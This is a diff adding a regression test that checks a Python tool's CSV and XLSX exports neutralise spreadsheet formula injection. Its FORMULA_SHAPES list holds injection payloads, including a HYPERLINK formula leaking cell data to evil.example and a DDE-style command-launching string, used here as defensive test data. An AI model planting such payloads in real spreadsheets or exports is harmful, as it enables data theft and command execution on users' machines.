@@ -10,10 +10,12 @@ import csv
 import shutil
 from datetime import date, datetime
 from pathlib import Path
+from typing import List
 
 import pytest
 import yaml
 from openpyxl import Workbook, load_workbook
+from sqlalchemy import select
 
 from actions.discovery import ActionDiscovery
 from actions.living import ActionMobility
@@ -382,3 +384,40 @@ def test_headers_in_capitals_and_numbers_or_phones_with_signs_are_data(database_
         from knowledge.partners.models import Commune, Structure
         assert session.get(Structure, "clin_paimboeuf").phone == "+33 2 40 00 10 01"
         assert session.query(Commune).filter_by(name="Paimbœuf").one().longitude == -2.03
+
+
+# Text a spreadsheet would run as a formula in the shapes the weaker rule (`=`, `+`, `-`, `@` first) let
+# through, as a coordinator may have typed it in the console.
+# (No carriage return: a workbook's XML reads it back as a line feed, formula or not.)
+FORMULA_SHAPES = ["\t=1+1", '  =HYPERLINK("https://evil.example/?d="&A1)', "＝1+1", "  ＠SUM(1)",
+                  "+33 cmd|' /C calc'!A0"]
+
+
+def _exported_cells(out: Path, as_workbook: bool) -> List[str]:
+    if as_workbook:
+        sheet = load_workbook(out / export.WORKBOOK_FILE)["offres"]
+        return [str(cell.value) for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
+    with open(out / "offres.csv", encoding="utf-8-sig", newline="") as file:
+        return [cell for row in list(csv.reader(file))[1:] for cell in row]
+
+
+@pytest.mark.parametrize("as_workbook", [False, True], ids=["csv", "xlsx"])
+def test_formula_shapes_are_exported_inert_and_imported_back_unchanged(database_url, tmp_path, table_snapshot,
+                                                                       as_workbook):
+    import_folder(UTF8_DIR)
+    with db.session_scope() as session:
+        openings = session.scalars(select(Opening).order_by(Opening.id)).all()
+        for opening, value in zip(openings, FORMULA_SHAPES):
+            opening.description = value
+        openings[0].title = FORMULA_SHAPES[-1]
+    before = table_snapshot()
+    out = tmp_path / "export"
+
+    cli.main(["export", str(out)] + (["--xlsx"] if as_workbook else []))
+    cells = _exported_cells(out, as_workbook)
+    for value in FORMULA_SHAPES[:len(openings)] + [FORMULA_SHAPES[-1]]:
+        assert "'" + value in cells and value not in cells, value
+    report = import_folder(out / export.WORKBOOK_FILE if as_workbook else out)
+
+    assert (sum(report.created.values()), sum(report.updated.values())) == (0, 0)
+    assert table_snapshot() == before
